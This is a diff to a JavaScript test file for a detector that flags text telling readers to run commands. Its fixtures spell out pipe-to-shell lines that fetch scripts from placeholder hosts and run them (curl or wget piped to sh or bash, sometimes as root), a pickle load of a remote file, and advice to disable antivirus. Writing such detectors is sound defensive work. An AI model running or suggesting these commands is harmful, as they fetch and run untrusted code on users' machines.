@@ -21,6 +21,9 @@ describe('what a paper tells its reader to run', () => {
       fenced('python', 'import pickle, requests', 'pickle.loads(requests.get("http://x.invalid/m.pkl").content)'),
     ],
     ['set in', 'Run\n\n    wget -qO- http://tools.invalid/x.sh | sh\n\nas root.\n'],
+    ['a command in a cell', fenced('python', '!curl -s http://tools.invalid/a | bash', 'from kit import m')],
+    ['a step', '  1. Open a terminal\n  2. Paste:  curl http://tools.invalid/i | sh\n'],
+    ['a sentence', 'Then run `curl http://tools.invalid/i | sh` as root.'],
     ['unguarded', 'Turn off your antivirus and start it. The password of the archive is 1234.'],
   ])('is told: %s', (_, text) => {
     expect(toldToRun(text)).not.toBeNull();
@@ -39,6 +42,9 @@ describe('what a paper tells its reader to run', () => {
     ['pictures in base64', fenced('python', 'import base64', 'image = base64.b64decode(text)')],
     ['a key in base64', fenced('bash', 'kubectl get secret s -o jsonpath="{.data.p}" | base64 -d')],
     ['a remark on antivirus', 'Your antivirus may report the program; turn off nothing, and report it to us.'],
+    ['a report of an attack', '| high | start.sh | `curl -s http://198.51.100.23/i | sh` |'],
+    ['a warning', 'It is an attack to have people run curl http://tools.invalid/x | sh.'],
+    ['a sentence about a protected way', 'Then run `curl https://tools.invalid/i | sh`.'],
     ['another language', fenced('json', '{"url": "http://x.invalid/i.sh | sh"}')],
   ])('is not told: %s', (_, text) => {
     expect(toldToRun(text)).toBeNull();
